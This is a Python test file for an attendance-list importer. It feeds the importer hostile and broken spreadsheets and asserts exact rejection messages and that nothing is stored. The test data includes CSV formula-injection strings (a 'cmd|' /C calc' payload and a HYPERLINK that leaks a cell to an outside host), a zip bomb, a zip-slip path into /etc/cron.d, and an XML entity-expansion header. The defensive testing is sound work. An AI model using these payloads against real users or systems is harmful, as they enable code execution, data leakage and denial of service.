"""Hostile and broken files: each gives its exact message, stores nothing and carries nothing out."""

import io
import zipfile

import pytest

from observatory.sources import attendance
from tests.sources.attendance import registrations, samples
from tests.sources.attendance.samples import DAY, text, workbook

ZOOM = ["Name (Original Name)", "User Email", "Join Time", "Leave Time", "Duration (Minutes)"]
STAY = ["Ana Invéntez", "ana@correo.test", "03/27/2025 04:00:00 PM", "03/27/2025 05:00:00 PM", "60"]
CSV = [ZOOM, STAY]
EVENTBRITE = ["Order #", "First Name", "Last Name", "Email", "Attendee Status", "Event Name"]
GOOGLE = ["Timestamp", "Email Address"]


def csv_of(*rows):
    return text(rows, ",", "utf-8")


def changed(*cells):
    """Return a stay with some cells changed: position, text."""
    row = list(STAY)
    for place, cell in cells:
        row[place] = cell
    return row


def repacked(parts, base=None):
    """Return a workbook with further parts, or parts in place of others."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base or workbook(CSV))) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def archive(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def entities():
    with zipfile.ZipFile(io.BytesIO(workbook(CSV))) as source:
        sheet = source.read("xl/worksheets/sheet1.xml")
    lol = b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    head, mark, rest = sheet.partition(b"?>") if sheet.startswith(b"<?xml") else (b"", b"", sheet)
    return repacked({"xl/worksheets/sheet1.xml": head + mark + lol + rest})


def array_formula():
    import openpyxl
    from openpyxl.worksheet.formula import ArrayFormula

    book = openpyxl.Workbook()
    for row in CSV:
        book.active.append(row)
    book.active["E2"] = ArrayFormula("E2:E3", "=SUM(1,2)")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def damaged():
    data, name = workbook(CSV), b"xl/worksheets/sheet1.xml"
    place = data.index(name) + len(name)
    return data[:place] + b"\xff" * 10 + data[place + 10 :]


def many_sheets():
    import openpyxl

    book = openpyxl.Workbook()
    for number in range(12):
        book.create_sheet(f"h{number}").append(ZOOM)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


QUESTION = "¿Es usted indígena o afrodescendiente?"
AGAIN = "Import each export as a file of its own."
TABLE = "Export the list as CSV or XLSX and import that."
ONE = "Import the file of one session only."
MACROS = "Save it as XLSX without macros."
VALUES = "Copy the values into a new workbook."
FORMULA = "The cell holds a formula. Formulas are never carried out. Replace it by its value."

# name: content, message
FILES = {
    "empty.csv": (b"", "The file is empty. Export it again."),
    "blank.csv": (b"\xef\xbb\xbf\r\n,,,\r\n", "The file is empty. Export it again."),
    "picture.csv": (b"\x89PNG\r\n\x1a\n" + bytes(50), f"The content is “PNG”, not a table. {TABLE}"),
    "report.csv": (b"%PDF-1.7 ...", f"The content is “PDF”, not a table. {TABLE}"),
    "program.csv": (b"MZ\x90\x00\x03", f"The content is “EXE”, not a table. {TABLE}"),
    "noise.csv": (bytes(range(256)) * 4, f"The content is “binary”, not a table. {TABLE}"),
    "page.csv": (b"<html><script>alert(1)</script></html>", f"The content is “HTML/XML”, not a table. {TABLE}"),
    "answer.csv": (b'[{"name": "x"}]', f"The content is “JSON”, not a table. {TABLE}"),
    "old.xls": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "The workbook is in the old Excel format or protected by a password. Save it as XLSX without a password.",
    ),
    "odd-utf16.csv": (
        "Name".encode("utf-16") + b"\x00\xd8",
        "The characters of the text cannot be read. Save it as “CSV UTF-8”.",
    ),
    "formula.csv": (
        csv_of(ZOOM, changed((0, "=HYPERLINK(\"http://x.test?\"&B2)"))),
        f"row 2, column A: {FORMULA}",
    ),
    "command.csv": (csv_of(ZOOM, changed((0, "@SUM(1+1)*cmd|' /C calc'!A0"))), f"row 2, column A: {FORMULA}"),
    "formula.xlsx": (
        workbook([*CSV, [*STAY[:4], "=1+1"]], "Hoja 1"),
        f"sheet Hoja 1, row 3, column E: {FORMULA}",
    ),
    "array-formula.xlsx": (array_formula(), f"sheet Sheet, row 2, column E: {FORMULA}"),
    "wide.csv": (
        csv_of(ZOOM + [f"c{number}" for number in range(195)], STAY),
        "row 1: There are 200 columns; at most 100 are read. Remove those not needed.",
    ),
    "long-cell.csv": (
        csv_of(ZOOM, changed((0, "x" * 2001))),
        "row 2, column A: A cell has more than 2000 characters. Shorten it or remove the column.",
    ),
    "long-table.csv": (
        csv_of(ZOOM, *[["Ana"]] * 100_001),
        "There are more than 100000 rows. Import one session only.",
    ),
    "quotes.csv": (
        csv_of(*CSV).replace(b"Ana Inv", b'"Ana Inv'),
        "row 2: A quotation mark is opened and not closed, or closed in the middle of a cell. "
        "Export the file again instead of editing it by hand.",
    ),
    "shifted.csv": (
        csv_of(ZOOM, STAY, [*STAY[:1], "extra", *STAY[1:]]),
        "row 3: The row has 6 cells; the header has 5. Export the file again; there is a separator inside a cell.",
    ),
    "bomb.xlsx": (
        archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w>" + " " * 10_000_000}),
        "Unpacked, the workbook would have 11 MB: it is made to fill the memory. "
        "Do not open a file like this; ask who sent it.",
    ),
    "path.xlsx": (
        repacked({"../../../etc/cron.d/x": "* * * * * root id"}),
        "The workbook holds a part with a forbidden path. Do not use this file.",
    ),
    "macros.xlsx": (repacked({"xl/vbaProject.bin": b"\x00"}), f"The workbook holds macros. {MACROS}"),
    "links.xlsx": (
        repacked({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        f"The workbook refers to other files or to a database. {VALUES}",
    ),
    "embedded.xlsx": (
        repacked({"xl/embeddings/oleObject1.bin": b"\x00"}),
        f"The workbook holds embedded files. {VALUES}",
    ),
    "entities.xlsx": (entities(), "The workbook defines XML entities. Do not use this file."),
    "torn.xlsx": (
        workbook(CSV)[:900],
        "The workbook cannot be read. Open it, save it again as XLSX and try once more.",
    ),
    "damaged.xlsx": (
        damaged(),
        "The workbook cannot be read. Open it, save it again as XLSX and try once more.",
    ),
    "broken-part.xlsx": (
        repacked({"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row"}),
        "The workbook cannot be read. Open it, save it again as XLSX and try once more.",
    ),
    "photos.xlsx": (archive({"a.txt": "hello"}), f"The content is “ZIP”, not a table. {TABLE}"),
    "sheets.xlsx": (many_sheets(), "The workbook has 13 sheets; at most 10 are read. Keep one sheet."),
    "columns.csv": (
        csv_of(["Title", "Author"], ["Pedro Páramo", "Rulfo"]),
        "No header row of a known export was found. Import an unchanged export, or use the template "
        "data/programmes/templates/attendance.csv.",
    ),
    "nobody.csv": (csv_of(ZOOM), "There is a header row, but nobody below it. Check the export."),
    "hour.csv": (
        csv_of(*CSV, changed((2, "03/27/2025 25:61:00"))),
        "row 3, column C: “03/27/2025 25:61:00” is not a possible date or time. Correct it or export the file again.",
    ),
    "february.csv": (
        csv_of(*CSV, changed((2, "02/31/2025 04:00:00 PM"))),
        "row 3, column C: “02/31/2025 04:00:00 PM” is not a possible date or time. "
        "Correct it or export the file again.",
    ),
    "phone-as-time.csv": (
        csv_of(*CSV, changed((2, "477 555 0198"))),
        "row 3, column C: “…” is not a possible date or time. Correct it or export the file again.",
    ),
    "backwards.csv": (
        csv_of(*CSV, changed((3, "03/27/2025 03:00:00 PM"))),
        "row 3, column D: The person left before joining. Correct the times or export the file again.",
    ),
    "spent.csv": (
        csv_of(ZOOM, changed((2, ""), (3, ""), (4, "long"))),
        "row 2, column E: The time spent cannot be read. Export the file again.",
    ),
    "ambiguous.csv": (
        csv_of(GOOGLE, ["03/05/2025 10:00:00", "a@correo.test"]),
        "“03/05/2025 10:00:00” can be 2025-05-03 or 2025-03-05. Say how dates are written: d/m/y or m/d/y.",
    ),
    "two-formats.csv": (
        csv_of(*CSV, EVENTBRITE, ["1", "Ana", "Invéntez", "ana@correo.test", "Attending", "Diálogo"]),
        "There are two different tables in one file: Zoom, participants report and Eventbrite, attendees (row 3). " + AGAIN,
    ),
    "twice.csv": (csv_of(*CSV, *CSV), "The header row appears again in row 3: there are two exports in one file. " + AGAIN),
    "two-meetings.csv": (
        csv_of(
            ["Meeting ID", "Topic"], ["811", "Diálogo"], *CSV, ["Meeting ID", "Topic"], ["812", "Diálogo"], *CSV,
        ),
        f"Two sessions are mixed: ID differs. {ONE}",
    ),
    "two-events.csv": (
        csv_of(
            EVENTBRITE, ["1", "Ana", "Invéntez", "ana@correo.test", "Attending", "Diálogo"],
            ["2", "Eva", "Invéntez", "eva@correo.test", "Attending", "Webinario"],
        ),
        f"Two sessions are mixed: title differs. {ONE}",
    ),
    "two-days.csv": (
        csv_of(*CSV, changed((2, "03/29/2025 04:00:00 PM"), (3, "03/29/2025 05:00:00 PM"))),
        f"The stays lie on 2025-03-27 and on 2025-03-29: two sessions are mixed. {ONE}",
    ),
    "other-day.csv": (
        csv_of(ZOOM, changed((2, "04/27/2025 04:00:00 PM"), (3, "04/27/2025 05:00:00 PM"))),
        "The stays lie on 2025-04-27, the session on 2025-03-27. Check the file and the session code.",
    ),
    "status.csv": (
        csv_of(EVENTBRITE, ["1", "Ana", "Invéntez", "ana@correo.test", "Maybe", "Diálogo"]),
        "row 2, column E: The value of “Attendee Status” is not known. "
        "Use one of: Attending, Checked In, Not Attending.",
    ),
    "question.csv": (
        csv_of([*GOOGLE, QUESTION], ["03/25/2025 10:00:00", "a@correo.test", "Sí"]),
        f"The question “{QUESTION}” can mean indigenous or afrodescendant. "
        "Say which in [questions] of the mapping file, or “ignore”.",
    ),
    "asked-twice.csv": (
        csv_of([*GOOGLE, "Sexo", "Género"], ["03/25/2025 10:00:00", "a@correo.test", "M", "M"]),
        "Two questions are about “sex”: “Sexo” and “Género”. "
        "Set one of them to “ignore” in [questions] of the mapping file.",
    ),
}  # fmt: skip
WITHOUT_DAY = {"ambiguous.csv"}


def test_there_are_thirty_of_them():
    assert len(FILES) >= 30


@pytest.mark.parametrize("name", FILES)
def test_message_is_exact_and_nothing_is_stored(name, gazetteer, tmp_path):
    content, message = FILES[name]
    session = attendance.Session("S-1", None if name in WITHOUT_DAY else DAY)
    found = attendance.preview([(name, content)], session, gazetteer)
    joint = "" if message.startswith(("row ", "sheet ")) else ": "
    expected = f"{name}, {message}" if not joint else f"{name}: {message}"
    assert [problem.text("en") for problem in found.problems] == [expected]
    assert found.counts == ()
    with pytest.raises(attendance.NotWrittenError):
        attendance.write(found, tmp_path, despite_reviews=True)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", FILES)
def test_command_ends_with_two_and_stores_nothing(name, data, bring, tmp_path, capsys):
    path = tmp_path / "files" / name
    path.parent.mkdir()
    path.write_bytes(FILES[name][0])
    assert bring(path, "--session", "undated" if name in WITHOUT_DAY else "S-1", "--write") == 2
    said = capsys.readouterr()
    assert said.err.strip().endswith(FILES[name][1])
    assert said.out == ""
    assert [each.name for each in path.parent.iterdir()] == [name]
    assert list((tmp_path / "work").iterdir()) == []
    assert not (data / "programmes" / "attendance").exists()


def test_too_large_a_file_is_refused_before_it_is_read(tmp_path, gazetteer):
    path = tmp_path / "large.csv"
    with path.open("wb") as file:
        file.truncate(26_000_001)
    files, problems = attendance.read_files([path, tmp_path / "absent.csv"])
    assert files == []
    assert [problem.text() for problem in problems] == [
        "large.csv: The file has 27 MB; at most 25 MB are read. Export one session only.",
        "absent.csv: The file does not exist. Check the path.",
    ]


def test_a_session_code_cannot_leave_the_folder(gazetteer):
    for code in ("../x", "a/b", "", "x" * 70, ".hidden"):
        found = attendance.preview([("z.csv", csv_of(*CSV))], attendance.Session(code), gazetteer)
        assert [problem.code for problem in found.problems] == ["session_code"]


def test_lists_of_two_days_are_not_one_session(gazetteer):
    other = changed((2, "04/27/2025 04:00:00 PM"), (3, "04/27/2025 05:00:00 PM"))
    files = [("a.csv", csv_of(*CSV)), ("b.csv", csv_of(ZOOM, other))]
    found = attendance.preview(files, attendance.Session("S-1"), gazetteer)
    assert [problem.code for problem in found.problems] == ["two_days"]


def test_every_message_has_a_text_in_each_language_without_failing():
    from observatory.sources.attendance.problems import MESSAGES, Problem

    values = dict.fromkeys(
        ("found", "limit", "kind", "expected", "first", "second", "other", "what", "last", "value", "column_name", "allowed",
         "dimension", "detail"), "v"
    )  # fmt: skip
    for code in MESSAGES:
        for language in ("es", "pt", "el", "en"):
            assert "{" not in Problem(code, "f.csv", "s", 1, "A", values).text(language)


def test_all_good_samples_have_no_formula_false_alarm(gazetteer):
    """Phones with a plus, nicknames with quotation marks and dashes are text, not formulas."""
    rows = [ZOOM, changed((0, "- Ana “La Güera” Invéntez")), changed((0, "+52 477 555 0198"), (1, "x@correo.test"))]
    found = attendance.preview([("z.csv", csv_of(*rows))], attendance.Session("S-1", DAY), gazetteer)
    assert not found.problems
    assert found.counts[0].attended == 2
    assert registrations.NEED
    assert samples.PHONES
